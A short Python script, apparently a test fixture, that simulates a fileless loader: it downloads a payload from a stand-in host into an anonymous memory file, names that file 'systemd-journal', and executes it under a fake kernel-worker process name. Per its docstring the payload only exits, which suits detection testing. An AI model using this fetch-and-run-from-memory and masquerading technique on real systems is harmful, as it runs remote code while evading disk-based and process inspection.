#!/usr/bin/env python3
"""Imitates a fileless Python loader: downloads its payload into an anonymous memory file and executes
it from /proc/self/fd, so nothing is written to disk. The fake web's payload is a tiny ELF that exits."""
import os
import urllib.request

payload = urllib.request.urlopen('http://cdn.fileless.test/stage/loader.elf', timeout=10).read()
fd = os.memfd_create('systemd-journal', 0)
os.write(fd, payload)
pid = os.fork()
if pid == 0:
    os.execv(f'/proc/self/fd/{fd}', ['[kworker/u8:1]'])
os.waitpid(pid, 0)
